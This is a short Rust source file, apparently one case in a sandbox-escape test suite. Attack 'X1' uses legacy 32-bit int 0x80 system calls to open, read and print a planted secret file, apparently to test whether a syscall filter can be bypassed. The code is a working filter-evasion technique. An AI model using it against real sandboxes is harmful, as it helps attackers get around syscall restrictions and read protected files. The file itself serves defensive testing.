//! X1: opens and reads a hidden file by 32-bit numbers.

use std::io;

use super::compat::{OPEN, READ, WRITE, int80, low};
use crate::attack::{Attack, Judge};
use crate::attacks::proof;
use crate::stage::Stage;

pub(super) const ROW: Attack = Attack {
    id: "X1",
    name: "int80-open",
    what: "opens, reads and prints a hidden file by 32-bit numbers only",
    prepare,
    attack,
    ..Attack::ROW
};

fn prepare(stage: &mut Stage) -> io::Result<Judge> {
    let (path, judge) = stage.secret("secret")?;
    stage.path_arg(&path);
    Ok(judge)
}

fn attack(args: &[String]) -> io::Result<()> {
    let page = low(proof::arg(args, 0)?)?.low_address()?;
    let fd = int80(OPEN, page, 0, 0)?;
    let length = int80(READ, fd, page, 4096)?;
    int80(WRITE, 1, page, length).map(|_| ())
}
